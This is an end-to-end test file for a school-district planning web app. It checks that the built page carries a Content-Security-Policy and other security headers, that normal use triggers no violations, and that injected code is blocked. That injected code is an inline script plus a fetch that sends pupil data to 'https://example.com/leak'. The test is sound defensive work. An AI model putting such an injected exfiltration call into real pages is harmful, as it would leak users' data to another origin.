import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { drawSquareBetween, launchChromium, requestsOutside, waitForApp } from './appPage';
import { CSP_HEADER, CSP_META } from '../../src/app/securityHeaders';
import { clickSettled } from './loadStatus';

const url = inject('baseUrl');

/** A violation as the page reported it (securitypolicyviolation event). */
interface Violation {
  policy: 'header' | 'meta';
  directive: string;
  blocked: string;
}

describe('the built page under its Content-Security-Policy', () => {
  let close = async () => {};
  afterAll(() => close());

  it('is served with CSP, nosniff and no-referrer; works (load, map, draw, exports, charts) with no violation; blocks an injected off-origin fetch and inline script', async () => {
    // What `vite preview` sends, for the page and for a worker script alike.
    const doc = await fetch(url);
    const html = await doc.text();
    const worker = readdirSync(join(import.meta.dirname, '../../dist/assets')).find((f) => /^engine\.worker-.*\.js$/.test(f));
    expect(worker).toBeDefined();
    for (const response of [doc, await fetch(new URL(`assets/${worker}`, url))]) {
      expect(response.headers.get('content-security-policy')).toBe(CSP_HEADER);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    }
    // The built page carries the policy itself, before any script, for any static host.
    expect(html.indexOf(`<meta http-equiv="Content-Security-Policy" content="${CSP_META.replaceAll("'", '&#39;')}">`)).toBeGreaterThan(-1);
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);

    const browser = await launchChromium();
    close = () => browser.close();
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true });
    const page = await context.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await page.addInitScript(() => {
      const w = window as unknown as { __violations: Violation[] };
      w.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) => w.__violations.push({
        policy: e.originalPolicy.includes('frame-ancestors') ? 'header' : 'meta', directive: e.effectiveDirective, blocked: e.blockedURI,
      }));
    });
    const violations = () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
    await page.goto(url);
    await waitForApp(page);

    // Draw an area and give it to a school, export a table and the map, open the report and the charts.
    await drawSquareBetween(page, ['P01', 'N02']);
    await page.getByTestId('assign-school').click();
    await page.keyboard.type('汇文');
    await page.keyboard.press('Enter');
    await page.getByTestId('assign-area').click();
    await page.waitForFunction(() => window.__planner!.store.getState().edits.length === 1);
    for (const kind of ['tablesXlsx', 'mapPng']) {
      await page.getByTestId('export-menu').click();
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId(`export-${kind}`).click()]);
      expect((await download.path()) && download.suggestedFilename()).toMatch(/\.(xlsx|png)$/);
    }
    await page.getByTestId('export-menu').click();
    await page.getByTestId('export-report').click();
    await page.locator('[data-testid="print-report"][data-ready="yes"]').waitFor({ timeout: 120_000 });
    // The county and the changed area, each drawn.
    expect(await page.getByTestId('report-map').evaluateAll((imgs: HTMLImageElement[]) => imgs.map((img) => img.complete && img.naturalWidth > 0))).toEqual([true, true]);
    await clickSettled(page, 'report-close');
    await page.getByTestId('open-compare').click();
    await page.locator('[data-testid="county-chart"] svg, [data-testid="county-chart"] canvas').first().waitFor({ timeout: 120_000 });
    expect(await violations()).toEqual([]);

    // Injected code can neither send data to another origin nor run inline script; the page says so.
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.head.append(script);
      try {
        await fetch('https://example.com/leak?pupils=1');
        return 'sent';
      } catch (e) {
        return `blocked: ${(e as Error).name}`;
      }
    });
    expect(outcome).toBe('blocked: TypeError');
    expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
    // Both policies, the header's and the page's own meta tag, refuse and report each.
    const sorted = async () => (await violations()).map((v) => `${v.policy} ${v.directive} ${v.blocked}`).sort();
    await expect.poll(sorted).toEqual([
      'header connect-src https://example.com/leak?pupils=1',
      'header script-src-elem inline',
      'meta connect-src https://example.com/leak?pupils=1',
      'meta script-src-elem inline',
    ]);
    expect(requestsOutside(requests, url)).toEqual([]);
  });
});
